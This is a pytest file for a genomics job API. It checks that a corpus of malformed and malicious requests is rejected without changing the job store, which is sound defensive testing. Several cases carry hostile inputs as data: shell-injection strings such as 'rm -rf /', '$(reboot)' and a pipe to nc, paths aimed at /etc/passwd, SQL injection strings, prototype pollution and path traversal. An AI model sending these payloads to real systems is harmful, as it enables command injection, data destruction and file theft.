"""A corpus of bad requests: each gets the right status and error body, names what is wrong,
and leaves the store (every row, every job folder) exactly as it was."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any, Callable

import pytest
from api_helpers import Env
from spec_checks import check_error

from localgene.jobs.bodies import MAX_BODY_BYTES, MAX_LIST_ITEMS, MAX_STRING_LENGTH, new_record

CNVKIT = "/v2.0/p1/gene/tools/cnvkit"
JOBS = "/v2.0/p1/gene/jobs"
STATS = "/v2.0/p1/gene/statistics"


@dataclass
class Bad:
    id: str
    status: int
    code: str
    needle: str
    method: str = "POST"
    path: str = CNVKIT
    #: the body: raw bytes, or a function of the valid body giving the JSON to send
    body: bytes | Callable[[dict[str, Any]], Any] | None = None
    params: dict[str, Any] | list[tuple[str, str]] | None = None
    headers: dict[str, str] = field(default_factory=dict)


def with_(**fields: Any) -> Callable[[dict[str, Any]], Any]:
    return lambda body: {**body, **fields}


def without(*names: str) -> Callable[[dict[str, Any]], Any]:
    return lambda body: {k: v for k, v in body.items() if k not in names}


CORPUS: list[Bad] = [
    # -- malformed JSON ----------------------------------------------------------------------
    Bad("truncated-json", 400, "DLI.0001", "not valid JSON", body=b'{"ref": "/a"'),
    Bad("empty-body", 400, "DLI.0001", "the request body is empty", body=b""),
    Bad("whitespace-body", 400, "DLI.0001", "the request body is empty", body=b"  \n "),
    Bad("array-body", 400, "DLI.0001", "must be a JSON object", body=b"[1, 2]"),
    Bad("string-body", 400, "DLI.0001", "must be a JSON object", body=b'"job"'),
    Bad("null-body", 400, "DLI.0001", "must be a JSON object", body=b"null"),
    Bad("trailing-garbage", 400, "DLI.0001", "Extra data", body=b'{"ref": "/a"} x'),
    Bad("bad-utf8", 400, "DLI.0001", "not UTF-8", body=b'{"ref": "\xff\xfe"}'),
    Bad("nan-number", 400, "DLI.0001", "NaN is not a JSON number", body=b'{"experimental_inputs": NaN}'),
    Bad("duplicate-key", 400, "DLI.0001", "names the field 'ref' twice", body=b'{"ref": "/a", "ref": "/etc/passwd"}'),
    Bad("deep-nesting", 400, "DLI.0001", "not valid JSON", body=b"[" * 200_000),
    Bad("single-quotes", 400, "DLI.0001", "not valid JSON", body=b"{'ref': '/a'}"),
    Bad("utf8-bom", 400, "DLI.0001", "not valid JSON", body=b'\xef\xbb\xbf{"ref": "/a"}'),
    Bad("huge-integer", 400, "DLI.0001", "not valid JSON", body=b'{"has_annotate": ' + b"9" * 5000 + b"}"),
    # -- wrong types -------------------------------------------------------------------------
    Bad("inputs-not-a-list", 400, "DLI.0001", "experimental_inputs: must be a list", body=with_(experimental_inputs="/a.bam")),
    Bad("input-not-a-string", 400, "DLI.0001", "control_inputs[0]: must be a string", body=with_(control_inputs=[1])),
    Bad("bool-as-string", 400, "DLI.0001", "has_annotate: must be true or false", body=with_(has_annotate="true")),
    Bad("bool-as-int", 400, "DLI.0001", "has_annotate: must be true or false", body=with_(has_annotate=1)),
    Bad("number-path", 400, "DLI.0001", "output_dir: must be a string", body=with_(output_dir=5)),
    Bad("conf-as-list", 400, "DLI.0001", "segment_conf: must be a string", body=with_(segment_conf=["-m", "cbs"])),
    Bad("required-null", 400, "DLI.0001", "ref: must be a string", body=with_(ref=None)),
    Bad("object-path", 400, "DLI.0001", "bed: must be a string", body=with_(bed={"$ne": ""})),
    # -- missing fields ----------------------------------------------------------------------
    Bad("missing-bed", 400, "DLI.0001", "bed: is required", body=without("bed")),
    Bad("empty-object", 400, "DLI.0001", "experimental_inputs: is required (also missing: control_inputs", body=lambda b: {}),
    Bad("annotate-without-file", 400, "DLI.0001", "annotation_file: is required when has_annotate is true",
        body=lambda b: {**without("annotation_file")(b), "has_annotate": True}),
    Bad("no-experimental-inputs", 400, "DLI.0001", "experimental_inputs: must not be empty", body=with_(experimental_inputs=[])),
    Bad("blank-output-dir", 400, "DLI.0001", "output_dir: must not be empty", body=with_(output_dir="   ")),
    # -- extra fields ------------------------------------------------------------------------
    Bad("misspelt-field", 400, "DLI.0001", "refs: unknown field (did you mean 'ref'?)", body=with_(refs="/a.fa")),
    Bad("instance-id-in-body", 400, "DLI.0001", "instance_id: unknown field", body=with_(instance_id="x")),
    Bad("proto-pollution", 400, "DLI.0001", "__proto__: unknown field", body=with_(__proto__={"admin": True})),
    Bad("owner-in-body", 400, "DLI.0001", "owner: unknown field", body=with_(owner="alice")),
    # -- limits ------------------------------------------------------------------------------
    Bad("too-many-inputs", 400, "DLI.0009", f"has more than {MAX_LIST_ITEMS} items",
        body=with_(control_inputs=[f"/n/{i}.bam" for i in range(MAX_LIST_ITEMS + 1)])),
    Bad("too-long-path", 400, "DLI.0009", f"longer than {MAX_STRING_LENGTH} characters", body=with_(ref="/" + "a" * MAX_STRING_LENGTH)),
    Bad("body-over-1mib", 413, "DLI.0009", f"larger than {MAX_BODY_BYTES} bytes",
        body=with_(call_conf=" " * (MAX_BODY_BYTES + 1))),
    Bad("content-length-over-limit", 413, "DLI.0009", "Content-Length", body=b"{}",
        headers={"Content-Length": str(MAX_BODY_BYTES + 1)}),
    Bad("content-length-not-a-number", 400, "DLI.0001", "Content-Length header", body=b"{}",
        headers={"Content-Length": "12abc"}),
    Bad("pipeline-body-over-1mib", 413, "DLI.0009", "larger than", path=JOBS,
        body=lambda b: {"job_type": "DNA_GERMLINE", "knownsites": ["x" * 1000] * 1100}),
    # -- injection attempts in option strings ------------------------------------------------
    Bad("shell-semicolon", 400, "DLI.0007", "segment_conf: contains shell syntax", body=with_(segment_conf="-m cbs; rm -rf /")),
    Bad("shell-substitution", 400, "DLI.0007", "call_conf: contains shell syntax", body=with_(call_conf="$(reboot)")),
    Bad("shell-backticks", 400, "DLI.0007", "target_conf: contains shell syntax", body=with_(target_conf="`id`")),
    Bad("shell-pipe", 400, "DLI.0007", "coverage_conf: contains shell syntax", body=with_(coverage_conf="-q 10 | nc evil 1")),
    Bad("output-option", 400, "DLI.0007", "coverage_conf: -o/--output names an output file", body=with_(coverage_conf="-o /etc/passwd")),
    Bad("supplied-file-option", 400, "DLI.0007", "reference_conf: -f/--fasta is set by localgene", body=with_(reference_conf="-f /etc/passwd")),
    Bad("unknown-option", 400, "DLI.0007", "fix_conf: not accepted by `cnvkit.py fix`", body=with_(fix_conf="--nope")),
    Bad("bad-choice", 400, "DLI.0007", "invalid choice: 'nope'", body=with_(segment_conf="-m nope")),
    Bad("annotate-smuggled", 400, "DLI.0007", "antitarget_conf", body=with_(antitarget_conf="-a 100000 --annotate /etc/passwd")),
    Bad("unbalanced-quote", 400, "DLI.0001", "sex_conf: cannot be split into options", body=with_(sex_conf="'unbalanced")),
    Bad("newline-in-option", 400, "DLI.0001", "coverage_conf: must not contain control characters", body=with_(coverage_conf="-p 4\n--foo")),
    # -- injection attempts and bad forms in paths -------------------------------------------
    Bad("shell-in-path", 400, "DLI.0002", "does not exist", body=with_(ref="/etc/../etc/passwd; rm -rf /")),
    Bad("relative-path", 400, "DLI.0001", "bed: 'relative/../targets.bed' is a relative path",
        body=with_(bed="relative/../targets.bed")),
    Bad("tilde-path", 400, "DLI.0001", "ref: '~/genome.fa' is a relative path", body=with_(ref="~/genome.fa")),
    Bad("http-url", 400, "DLI.0001", "unsupported scheme http://", body=with_(experimental_inputs=["http://evil/x.bam"])),
    Bad("file-url-other-host", 400, "DLI.0001", "name no other host than localhost", body=with_(output_dir="file://evil.host/x")),
    Bad("nul-in-path", 400, "DLI.0001", "ref: must not contain control characters", body=with_(ref="/a\x00b")),
    Bad("missing-input", 400, "DLI.0002", "experimental_inputs[0]: /nope/T9.bam does not exist",
        body=with_(experimental_inputs=["/nope/T9.bam"])),
    Bad("folder-as-input", 400, "DLI.0001", "ref: /tmp is a folder, not a file", body=with_(ref="/tmp")),
    Bad("s3-without-key", 400, "DLI.0001", "names a bucket but no object", body=with_(ref="s3a://bucket")),
    Bad("output-dir-is-a-file", 400, "DLI.0001", "output_dir: /etc/passwd is a file, not a folder",
        body=with_(output_dir="/etc/passwd")),
    Bad("output-dir-under-a-file", 400, "DLI.0001", "output_dir: /etc/passwd/out cannot be created",
        body=with_(output_dir="/etc/passwd/out")),
    # -- bad paging and filters --------------------------------------------------------------
    *(Bad(f"paging-{name}-{value or 'empty'}", 400, "DLI.0001", f"{name}: must be", method="GET",
          params={name: value})
      for name, value in (("limit", "0"), ("limit", "101"), ("limit", "abc"), ("limit", "1.5"), ("limit", ""),
                          ("limit", " 5"), ("offset", "-1"), ("offset", "1e3"), ("start", "-5"),
                          ("end", "99999999999999999999"))),
    Bad("start-after-end", 400, "DLI.0001", "start: must not be after end", method="GET", params={"start": 10, "end": 5}),
    Bad("limit-twice", 400, "DLI.0001", "limit: must be given once", method="GET", params=[("limit", "1"), ("limit", "2")]),
    Bad("unknown-query", 400, "DLI.0001", "unknown query parameter 'page'", method="GET", params={"page": 2}),
    Bad("instance_id-underscore", 400, "DLI.0001", "did you mean 'instance-id'", method="GET", params={"instance_id": "x"}),
    Bad("instance-id-not-uuid", 400, "DLI.0001", "instance-id: must be a job id", method="GET",
        params={"instance-id": "1 OR 1=1"}),
    Bad("stats-bad-start", 400, "DLI.0001", "start: must be", method="GET", path=STATS, params={"start": "yesterday"}),
    Bad("stats-limit-not-taken", 400, "DLI.0001", "unknown query parameter 'limit'", method="GET", path=STATS,
        params={"limit": 5}),
    Bad("jobs-paging", 400, "DLI.0001", "offset: must be", method="GET", path=JOBS, params={"offset": "x"}),
    # -- bad job_type ------------------------------------------------------------------------
    *(Bad(f"job-type-{value or 'empty'}", 400, "DLI.0001", "job_type: must be one of DNA_GERMLINE", method="GET",
          path=JOBS, params={"job_type": value})
      for value in ("FOO", "cnvkit", "", "dna_germline", "DNA_GERMLINE,DNA_SOMATIC")),
    Bad("job-type-twice", 400, "DLI.0001", "job_type: must be given once", method="GET", path=JOBS,
        params=[("job_type", "DNA_GERMLINE"), ("job_type", "DNA_SOMATIC")]),
    Bad("pipeline-unknown-type", 400, "DLI.0001", "job_type: must be one of", path=JOBS, body=lambda b: {"job_type": "FOO"}),
    Bad("pipeline-no-type", 400, "DLI.0001", "job_type: is required", path=JOBS, body=lambda b: {"input": []}),
    Bad("pipeline-type-not-string", 400, "DLI.0001", "job_type", path=JOBS, body=lambda b: {"job_type": 3}),
    Bad("pipeline-bad-field", 400, "DLI.0001", "input: must not be empty", path=JOBS,
        body=lambda b: {"job_type": "DNA_GERMLINE", "input": [], "output": "/o.vcf", "file_type": "BAM", "ref": "hg38",
                        "knownsites": ["k.vcf"]}),
    # -- bad paths ---------------------------------------------------------------------------
    Bad("project-id-bad-chars", 400, "DLI.0001", "project_id: 'p 1' is not a project id", method="GET",
        path="/v2.0/p 1/gene/tools/cnvkit"),
    Bad("project-id-too-long", 400, "DLI.0001", "project_id", method="GET", path="/v2.0/" + "p" * 200 + "/gene/statistics"),
    Bad("job-id-slash", 404, "DLI.0404", "no such endpoint", method="DELETE", path=CNVKIT + "/..%2Fetc"),
    Bad("job-id-not-uuid", 404, "DLI.0023", "no job 'abc' in project p1", method="DELETE", path=CNVKIT + "/abc"),
    Bad("job-id-sql", 404, "DLI.0023", "no job", method="GET", path=JOBS + "/1' OR '1'='1"),
    Bad("unknown-job", 404, "DLI.0023", "no job 00000000-0000-4000-8000-000000000000 in project p1",
        method="DELETE", path=JOBS + "/00000000-0000-4000-8000-000000000000"),
    Bad("query-on-get-one", 400, "DLI.0001", "unknown query parameter 'x'", method="GET",
        path=CNVKIT + "/00000000-0000-4000-8000-000000000000", params={"x": "1"}),
]


def test_the_corpus_is_big_enough():
    assert len(CORPUS) >= 40
    assert len({bad.id for bad in CORPUS}) == len(CORPUS)


@pytest.fixture
def seeded(env: Env) -> Env:
    """A store that already holds jobs, so 'unchanged' means something."""
    store = env.store()
    for owner in ("alice", "bob"):
        store.submit(new_record("p1", owner, "cnvkit", env.body()))
    return env


@pytest.mark.parametrize("bad", CORPUS, ids=[b.id for b in CORPUS])
def test_bad_request(client, seeded: Env, bad: Bad):
    env = seeded
    before = env.snapshot()
    headers = {**env.headers("alice"), **bad.headers}
    content = None
    if isinstance(bad.body, bytes):
        content = bad.body
    elif bad.body is not None:
        content = json.dumps(bad.body(env.body())).encode()
    if content is not None:
        headers.setdefault("Content-Type", "application/json")
    reply = client.request(bad.method, bad.path, content=content, params=bad.params, headers=headers)
    check_error(reply, bad.status, bad.code, bad.needle)
    assert env.snapshot() == before
